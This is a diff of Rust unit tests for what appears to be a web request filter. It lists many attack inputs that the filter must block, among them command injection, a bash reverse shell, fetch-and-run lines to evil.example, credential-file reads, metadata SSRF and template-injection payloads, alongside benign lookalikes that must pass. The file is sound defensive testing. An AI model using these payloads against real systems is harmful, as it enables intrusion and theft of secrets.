@@ -2071,3 +2071,277 @@ fn url_imitating_request_host_is_found() {
         assert!(request_rule_ids(&request(path), "").is_empty(), "{path}");
     }
 }
+
+/// Returns whether a JSON body with `value` under `key` is blocked.
+fn json_value_blocked(key: &str, value: &str) -> bool {
+    let body = serde_json::json!({ key: value }).to_string();
+    blocked(&with_body("POST", "application/json", &body), &body)
+}
+
+#[test]
+fn shell_syntax_in_host_parameter_is_blocked() {
+    for path in [
+        "/tools/ping?host=127.0.0.1%3Bcat%20flag",
+        "/tools/ping?host=x%20%26%20calc",
+        "/tools/ping?host=cat%20flag",
+        "/tools/ping?host=id",
+        "/tools/ping?ip=8.8.8.8%0Acat%20notes",
+        "/tools/ping?domain=example.com%24(whoami)",
+        "/tools/run?cmd=python3.10%20x.py",
+    ] {
+        assert!(blocked(&request(path), ""), "{path}");
+    }
+    for path in [
+        "/tools/ping?host=db-1.internal.example.com",
+        "/tools/ping?host=2001:db8::1",
+        "/tools/ping?host=fe80::1%25eth0",
+        "/tools/run?cmd=rebuild-index",
+    ] {
+        assert!(!blocked(&request(path), ""), "{path}");
+    }
+}
+
+#[test]
+fn address_then_short_command_is_blocked() {
+    for value in [
+        "8.8.8.8; cat flag",
+        "127.0.0.1 | echo vulnerable",
+        "report.txt& cat notes",
+        "localhost & notepad",
+        "8.8.8.8\ncat flag",
+    ] {
+        assert!(json_value_blocked("target", value), "{value}");
+    }
+    for value in [
+        "v1.2; cat food",
+        "Node.js | Echo framework",
+        "2024-01-01; echo chamber",
+        "a.b@c.com; id card",
+        "github.com/user/repo; git clone",
+        "Tea & cake at 10.30; bring friends",
+    ] {
+        assert!(!json_value_blocked("note", value), "{value}");
+    }
+}
+
+#[test]
+fn windows_obfuscation_is_blocked() {
+    for value in [
+        "x& %ProgramData:~0,1%%ProgramData:~9,2%",
+        "x& .( $pshome[4]+$pshome[30]+'x')",
+        "x& gci env:",
+        "x& sal x iex",
+        "x& (gcm i*x)",
+        "x& [System.Diagnostics.Process]::Start(\"calc\")",
+        "x& [Convert]::FromBase64String(\"SQBFAFgA\")",
+        "x& $env:comspec",
+        "x& c:\\programdata\\payload.exe",
+        "x| whoami.exe",
+    ] {
+        assert!(json_value_blocked("target", value), "{value}");
+    }
+    for value in [
+        "[Convert]::ToInt32(\"10\")",
+        "$env:PATH",
+        "gci . -recurse",
+        "Set-Alias np notepad",
+        "Run setup.exe & restart",
+        "C:\\Users\\anna\\setup.exe",
+    ] {
+        assert!(!json_value_blocked("note", value), "{value}");
+    }
+}
+
+#[test]
+fn environment_tampering_is_blocked() {
+    for value in [
+        "x;LD_PRELOAD=/tmp/x.so id",
+        "x; export BASH_ENV=/tmp/x",
+        "x;unset HISTFILE",
+        "x;bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+        "x;exec 5<>/dev/udp/203.0.113.5/53",
+    ] {
+        assert!(json_value_blocked("target", value), "{value}");
+    }
+    for value in [
+        "LD_PRELOAD explained",
+        "export LD_LIBRARY_PATH=/usr/local/lib",
+        "/dev/tcp explained",
+    ] {
+        assert!(!json_value_blocked("note", value), "{value}");
+    }
+}
+
+#[test]
+fn function_constructor_is_blocked() {
+    for value in [
+        "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
+        "{{constructor.constructor('import(\"//evil.example/x.js\")')()}}",
+        "{{$on.constructor('import(1)')()}}",
+    ] {
+        assert!(json_value_blocked("text", value), "{value}");
+    }
+    for value in [
+        "constructor(private http: HttpClient) {}",
+        "class A { constructor() { super(); } }",
+        "this.constructor.name",
+    ] {
+        assert!(!json_value_blocked("text", value), "{value}");
+    }
+}
+
+#[test]
+fn sensitive_path_values_are_blocked() {
+    for path in [
+        "/download?file=%2Fusr%2Flocal%2Ftomcat%2Fconf%2Ftomcat-users.xml",
+        "/download?file=%2Fetc%2Fkubernetes%2Fadmin.conf",
+        "/download?file=%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
+        "/download?file=C%3A%5CProgramData%5CMySQL%5CMySQL%20Server%208.0%5Cmy.ini",
+        "/download?file=WEB-INF%2Fweb.xml",
+        "/download?file=%2Fhome%2Fapp%2F.git-credentials",
+        "/download?file=..%25u2215..%25u2215etc%2Fpasswd",
+    ] {
+        assert!(blocked(&request(path), ""), "{path}");
+    }
+    for path in [
+        "/download?file=invoices%2F2024%2Fmarch.pdf",
+        "/docs?path=docs%2Fgetting-started%2Finstall.md",
+        "/search?q=WEB-INF+is+a+folder+in+Java+web+apps",
+        "/search?q=application.properties",
+    ] {
+        assert!(!blocked(&request(path), ""), "{path}");
+    }
+}
+
+#[test]
+fn metadata_and_loopback_evasions_are_blocked() {
+    for path in [
+        "/api/fetch?url=http%3A%5C%5C169.254.169.254%5Clatest%5Cmeta-data",
+        "/api/fetch?url=http%3A%2F%2Flocalhost.%2Fadmin",
+        "/api/fetch?url=http%3A%2F%2Fa9fea9fe.rbndr.us%2F",
+    ] {
+        assert!(blocked(&request(path), ""), "{path}");
+    }
+    assert!(!blocked(
+        &request("/go?url=https%3A%2F%2Fdocs.aws.amazon.com%2FAWSEC2%2Flatest%2FUserGuide%2Finstancedata-data-retrieval.html"),
+        ""
+    ));
+}
+
+#[test]
+fn script_url_with_fragment_tail_is_blocked() {
+    assert!(blocked(
+        &request("/index.php?page=http%3A%2F%2Fevil.example%2Fshell.txt%23"),
+        ""
+    ));
+    for path in [
+        "/go?return_to=https%3A%2F%2Fexample.com%2Fpage%23",
+        "/go?return_to=https%3A%2F%2Fexample.com%2F%23",
+    ] {
+        assert!(!blocked(&request(path), ""), "{path}");
+    }
+}
+
+#[test]
+fn code_injection_markers_are_blocked() {
+    for value in [
+        "[#assign ex = 'freemarker.template.utility.Execute'?new()]",
+        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+        "Object.prototype.polluted=1",
+        "{\"__js_function\":\"function(){return 1}\"}",
+    ] {
+        assert!(json_value_blocked("tpl", value), "{value}");
+    }
+    for value in [
+        "Object.prototype.hasOwnProperty.call(obj, key)",
+        "What's new() in Python?",
+        "freemarker templates tutorial",
+    ] {
+        assert!(!json_value_blocked("tpl", value), "{value}");
+    }
+}
+
+#[test]
+fn classic_asp_session_id_argument_is_blocked() {
+    assert!(blocked(
+        &request("/index.php?ASPSESSIONIDQQGGGNCG=LKJHGFDSAPOIUYTREWQ"),
+        ""
+    ));
+    assert!(!blocked(&request("/index.php?aspsession=1"), ""));
+}
+
+#[test]
+fn markdown_code_spans_in_prose_pass() {
+    for value in [
+        "Run `rm -rf node_modules && npm install` and try again.",
+        "To reproduce: `curl -s https://api.example.com/v1/health | jq .status`",
+        "Use `base64 -d < in.txt > out.bin` to decode.",
+        "See `nc -lvnp 4444` on the listener side.",
+    ] {
+        assert!(!json_value_blocked("body", value), "{value}");
+    }
+}
+
+#[test]
+fn backtick_substitution_next_to_prose_is_blocked() {
+    for value in [
+        "hello world `id`",
+        "my name is `whoami`",
+        "ping `whoami`.evil.example",
+        "x `sleep 5`",
+        "`sleep 7`",
+        "a`id`",
+        "nice one `cat /etc/passwd`",
+        // Shell syntax inside a code span still counts.
+        "nice post `wget -qO- evil.example/x | sh`",
+    ] {
+        assert!(json_value_blocked("comment", value), "{value}");
+    }
+}
+
+#[test]
+fn php_long_arrays_and_obfuscated_calls_are_blocked() {
+    for value in [
+        "$HTTP_GET_VARS['cmd']",
+        "$HTTP_POST_VARS['a']",
+        "O:+4:\"User\":0:{}",
+        "\"\\163\\171\\163\\164\\145\\155\"('id')",
+    ] {
+        assert!(json_value_blocked("expr", value), "{value}");
+    }
+    for value in ["HTTP GET vars in old PHP", "O: 4 users online"] {
+        assert!(!json_value_blocked("expr", value), "{value}");
+    }
+}
+
+#[test]
+fn graphql_string_arguments_are_inspected() {
+    let body = r#"mutation { ping(host: "8.8.8.8; id") }"#;
+    let headers = with_body("POST", "application/graphql", body);
+    assert!(blocked(&headers, body));
+    let body = r#"mutation { comment(body: "<img src=x onerror=alert(1)>") { id } }"#;
+    let headers = with_body("POST", "application/graphql", body);
+    assert!(blocked(&headers, body));
+    let body = r#"query { products(first: 10, filter: "red shoes") { id name } }"#;
+    let headers = with_body("POST", "application/graphql", body);
+    assert!(!blocked(&headers, body));
+}
+
+#[test]
+fn arithmetic_expansion_value_is_blocked() {
+    for path in [
+        "/get?math=%24%5B%5D",
+        "/get?math=%24%5B1%2B1%5D",
+        "/get?math=%24%28%287*7%29%29",
+    ] {
+        assert!(blocked(&request(path), ""), "{path}");
+    }
+    for path in [
+        "/api/query?path=%24%5B0%5D",
+        "/api/query?path=%24%5B*%5D",
+        "/api/query?path=%24%5B0%5D.name",
+        "/search?q=%24%28%28i%2B1%29%29+in+bash",
+    ] {
+        assert!(!blocked(&request(path), ""), "{path}");
+    }
+}
